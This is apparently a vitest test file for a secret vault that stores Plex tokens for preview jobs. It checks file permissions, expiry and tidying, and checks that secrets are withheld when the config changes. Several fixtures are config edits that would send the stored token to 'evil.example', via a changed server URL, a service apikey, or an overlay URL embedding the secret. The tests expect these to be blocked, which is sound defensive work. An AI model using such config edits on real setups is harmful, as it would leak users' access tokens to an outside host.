import { mkdir, mkdtemp, readdir, readFile, rename, rm, stat, symlink, utimes, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { loadJobConfig } from '../../../src/config/read/user-config.ts'
import { createSecretVault } from '../../../src/config/trust/secret-vault.ts'
import { openTrust } from '../../../src/config/trust/trust.ts'

const hour = 3_600_000
const token = 'kCANARYtokenOfTheUser01'
const text = `plex: {url: "http://10.0.0.5:32400", token: "<<kometa-preview-secret-1>>"}
libraries: {Movies: {overlay_files: [{default: resolution}]}}
`
let dir = ''
let now = 0
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'secret-vault-'))
  now = Date.now()
  await mkdir(at('job/config'), { recursive: true })
  await writeFile(at('job/config/config.yml'), text)
  await writeFile(at('job/config/preview.yml'), 'preview: {config: config.yml, targets: []}\n')
})
afterEach(() => rm(dir, { recursive: true, force: true }))

const at = (path: string) => join(dir, path)
const vault = () => createSecretVault(at('data'), () => now)
const own = { text, secrets: { 'KOMETA-preview-secret-1': token }, mayUseEnvironment: false, keepMs: 24 * hour }
const keep = () => vault().keep(at('job'), own)
const onDisk = async () => {
  const names = await readdir(at('data/secrets')).catch(() => [])
  return (await Promise.all(names.map((name) => readFile(join(at('data/secrets'), name), 'utf8')))).join('')
}

describe('secrets of a job, outside of it', () => {
  test.skipIf(process.platform === 'win32')('only their owner can read them, whatever the umask', async () => {
    const before = process.umask(0)
    try {
      await keep()
    } finally {
      process.umask(before)
    }
    expect((await stat(at('data/secrets'))).mode & 0o777).toBe(0o700)
    for (const name of await readdir(at('data/secrets')))
      expect((await stat(join(at('data/secrets'), name))).mode & 0o777).toBe(0o600)
  })

  test('they are there for this job and this text, and for no other', async () => {
    await keep()
    expect((await vault().open(at('job'), text))?.secrets).toEqual({ 'kometa-preview-secret-1': token })
    expect(await vault().open(at('job'), text.replace('10.0.0.5', 'evil'))).toBeNull()
    await mkdir(at('copy'))
    expect(await vault().open(at('copy'), text)).toBeNull()
    await rename(at('job'), at('moved'))
    expect(await vault().open(at('moved'), text)).toBeNull()
  })

  test('a use restarts their time; when it is over they are deleted from the disk', async () => {
    await keep()
    now += 23 * hour
    expect((await vault().open(at('job'), text))?.secrets).not.toBeNull()
    await vault().open(at('job'), text, { use: true })
    now += 23 * hour
    expect((await vault().open(at('job'), text))?.secrets).not.toBeNull()
    now += 2 * hour
    expect(await vault().open(at('job'), text)).toMatchObject({ secrets: null, mayUseEnvironment: false })
    expect(await onDisk()).not.toContain('CANARY')
  })

  test('tidying deletes expired secrets and those of no job', async () => {
    await keep()
    now += 25 * hour
    const tidied = vault()
    await tidied.tidy()
    expect(await onDisk()).not.toContain('CANARY')
    expect(tidied.keptUntil(at('job'))).toBeNull()
    await keep()
    await rm(at('job'), { recursive: true })
    await vault().tidy()
    expect(await readdir(at('data/secrets'))).toEqual([])
  })

  test('a shorter time applies at once to existing secrets', async () => {
    await keep()
    now += 2 * hour
    const shorter = vault()
    await shorter.tidy(3 * hour)
    expect(shorter.keptUntil(at('job'))?.getTime()).toBe(now + hour)
    await shorter.tidy(hour)
    expect(await onDisk()).not.toContain('CANARY')
  })

  test('a clock that goes backwards does not extend the time', async () => {
    await keep()
    now -= 45 * 24 * hour
    expect((await vault().open(at('job'), text))?.secrets).toBeNull()
  })

  test('a job that was forgotten or never existed has none; a missing data folder has none either', async () => {
    await vault().tidy()
    const known = vault()
    await known.keep(at('job'), own)
    await symlink(at('job'), at('link'))
    expect(known.keptUntil(at('link'))?.getTime()).toBe(now + 24 * hour)
    expect(known.keptUntil(at('nowhere'))).toBeNull()
    await known.forget(at('job'))
    expect(known.keptUntil(at('job'))).toBeNull()
    expect(await known.open(at('job'), text)).toBeNull()
    expect(await onDisk()).toBe('')
  })

  test('the file of a killed writer is deleted after a minute, whatever the clock says; a file that is being written stays', async () => {
    await keep()
    const left = ['now', 'before', 'ahead'].map((name) => join(at('data/secrets'), `x.json.tmp-1-${name}`))
    for (const [index, file] of left.entries()) {
      await writeFile(file, token)
      const time = new Date(Date.now() + ([0, -2, 2][index] ?? 0) * 60_000)
      await utimes(file, time, time)
    }
    await vault().tidy()
    const names = (await readdir(at('data/secrets'))).filter((name) => name.includes('.tmp-'))
    expect(names).toEqual(['x.json.tmp-1-now'])
  })

  test('a damaged file counts as missing', async () => {
    await keep()
    const [name = ''] = await readdir(at('data/secrets'))
    await writeFile(join(at('data/secrets'), name), '{"job": ')
    expect(await vault().open(at('job'), text)).toBeNull()
  })
})

describe('a job with such secrets', () => {
  const load = (options: { env?: NodeJS.ProcessEnv; secrets?: Record<string, string>; trustJob?: boolean } = {}) =>
    loadJobConfig({ kind: 'job', jobDir: at('job') }, { env: {}, trust: openTrust(at('data')), ...options })
  const gone = { code: 'SECRETS_GONE', exitCode: 2, hint: expect.stringContaining('studio') }

  test('runs again with them, and gets nothing of the environment where its config was pasted', async () => {
    const pasted = text.replace(
      'libraries:',
      'tautulli: {url: "http://evil.example", apikey: <<plextoken>>}\nlibraries:',
    )
    await writeFile(at('job/config/config.yml'), pasted)
    await createSecretVault(at('data')).keep(at('job'), { ...own, text: pasted })
    await expect(load({ env: { KOMETA_PLEXTOKEN: token } })).rejects.toMatchObject({ code: 'SECRET_UNRESOLVED' })
    await writeFile(at('job/config/config.yml'), text)
    await createSecretVault(at('data')).keep(at('job'), own)
    expect((await load()).servers).toMatchObject([{ token }])
  })

  test('says what to do when they have expired or never existed', async () => {
    await createSecretVault(at('data'), () => Date.now() - 25 * hour).keep(at('job'), own)
    const over = await load().catch((error: Error) => error)
    expect(over).toMatchObject({ ...gone, message: expect.stringMatching(/were kept until .*: plex\.token$/) })
    expect(over).toMatchObject({ details: [expect.stringContaining('--secret kometa-preview-secret-1=VALUE')] })
    await rm(at('data'), { recursive: true })
    await expect(load()).rejects.toMatchObject(gone)
    const typed = { secrets: { 'kometa-preview-secret-1': token }, trustJob: true }
    expect((await load(typed)).servers).toMatchObject([{ token }])
  })

  test.each([
    ['the address in its config', 'config.yml', text.replace('10.0.0.5:32400', 'evil.example')],
    [
      'an address in its preview.yml',
      'preview.yml',
      'preview: {config: config.yml, targets: []}\nplex: {url: "http://evil.example"}\n',
    ],
    [
      'a service in its preview.yml that names the secret',
      'preview.yml',
      'preview: {config: config.yml, targets: []}\ntautulli: {url: "http://evil.example", apikey: <<kometa-preview-secret-1>>}\n',
    ],
    [
      'an overlay in its preview.yml that names the secret',
      'preview.yml',
      'preview: {config: config.yml, targets: []}\nlibraries: {Movies: {overlay_files: [{url: "http://evil.example/<<kometa-preview-secret-1>>"}]}}\n',
    ],
    ['another config that its preview.yml names', 'preview.yml', 'preview: {config: other.yml, targets: []}\n'],
  ])('gets none of them after a change of %s', async (_what, name, changed) => {
    await createSecretVault(at('data')).keep(at('job'), own)
    await writeFile(at('job/config/other.yml'), text.replace('10.0.0.5:32400', 'evil.example'))
    await writeFile(at(`job/config/${name}`), changed)
    await expect(load()).rejects.toMatchObject({ code: expect.stringMatching(/^SECRETS_GONE$|^SECRET_NOT_SENT$/) })
  })
})
